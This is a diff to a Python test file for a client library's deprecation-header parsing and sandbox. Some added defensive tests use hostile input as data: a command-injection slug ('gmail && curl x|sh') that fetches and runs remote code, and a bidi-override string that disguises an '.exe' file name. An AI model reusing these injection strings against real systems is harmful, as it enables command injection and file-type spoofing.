@@ -9,6 +9,7 @@ import asyncio
 import threading
 import uuid
 import warnings
+from collections.abc import Iterator
 from datetime import datetime, timezone
 from typing import Any
 
@@ -57,6 +58,8 @@ def test_the_documented_example_parses_whole() -> None:
         ('"A";version="1";sunset=@\u0661\u0662', []),  # non-ASCII digits (the RFC's digits are ASCII)
         ('"A";version="1", garbage, "B";version="2"', ["A", "B"]),  # a bad item drops alone
         ('"A";version="1"\n', []),  # a control character drops the whole header
+        ('"A\u009b";version="1"', []),  # so does any character but printable ASCII (a C1 escape,
+        ('"A";version="1";reason="\u202egnp.exe"', []),  # a bidi override), which RFC 9651 allows nowhere
         ('"A";version="1",' + " " * MAX_HEADER_LENGTH, []),  # so does one over the length cap
     ],
 )
@@ -128,6 +131,31 @@ def test_each_version_is_told_once_per_process_across_threads_and_clients() -> N
     assert [d.slug for d in first.seen()] == [slug] == [d.slug for d in second.seen()]
 
 
+def test_a_slug_that_is_no_plain_name_is_never_pasted_into_a_command() -> None:
+    (odd,) = parse('"gmail && curl x|sh";version="1"')
+    assert "toolstubs upgrade gmail" not in odd.advice() and "`toolstubs upgrade`" in odd.advice()
+    (plain,) = parse('"GMAIL";version="1"')
+    assert "`toolstubs upgrade gmail`" in plain.advice()
+
+
+def test_a_warning_never_fails_the_call_even_as_an_error(sandbox_for_errors: tuple[str, str]) -> None:
+    url, kit = sandbox_for_errors
+    with warnings.catch_warnings():
+        warnings.simplefilter("error")
+        with Composio(api_key="k", base_url=url) as composio:
+            result = composio.tools.execute(
+                "DOCSTORE_EXPORT_PAGE", {"page_id": "p1"}, user_id="u1", version="20251101_00"
+            )
+            assert result["successful"] and [d.slug for d in composio.deprecations] == [kit.upper()]
+
+
+@pytest.fixture
+def sandbox_for_errors() -> Iterator[tuple[str, str]]:
+    sandbox, kit, _ = _retired_sandbox()
+    with serving(sandbox) as url:
+        yield url, kit
+
+
 def test_a_hostile_header_on_any_response_never_fails_the_call() -> None:
     hostile = '"' * 5000
 
@@ -189,13 +217,14 @@ def test_the_async_client_keeps_them_too() -> None:
 def test_the_sandbox_marks_the_tools_and_the_changelog() -> None:
     sandbox = Sandbox(catalog_tools())
     version = "20251101_00"
-    sandbox.deprecate("docstore", version, sunset_at=SUNSET)
+    sandbox.deprecate("docstore", version, sunset_at=SUNSET, tools=["DOCSTORE_APPEND_BLOCKS"])
     with serving(sandbox) as url, httpx.Client(base_url=url + "/api/v3", headers={"x-api-key": "k"}) as http:
         listed = http.get("/tools", params={"toolkit_slug": "docstore", "toolkit_versions": version})
         other = http.get("/tools", params={"toolkit_slug": "weather", "toolkit_versions": "latest"})
         changelog = http.get("/toolkits/changelog").json()
     assert listed.headers["composio-deprecated-toolkits"].startswith('"DOCSTORE";version="20251101_00";deprecated=@')
-    assert all(tool["is_deprecated"] for tool in listed.json()["items"])
+    marked = {tool["slug"] for tool in listed.json()["items"] if tool.get("is_deprecated")}
+    assert marked == {"DOCSTORE_APPEND_BLOCKS", "DOCSTORE_APPEND_TEXT"}  # the one named, and the demo's own
     assert "composio-deprecated-toolkits" not in other.headers
     (docstore,) = [item for item in changelog["items"] if item["slug"] == "docstore"]
     assert docstore["versions"][0]["changelog"].endswith("stops working on 2027-03-01.")
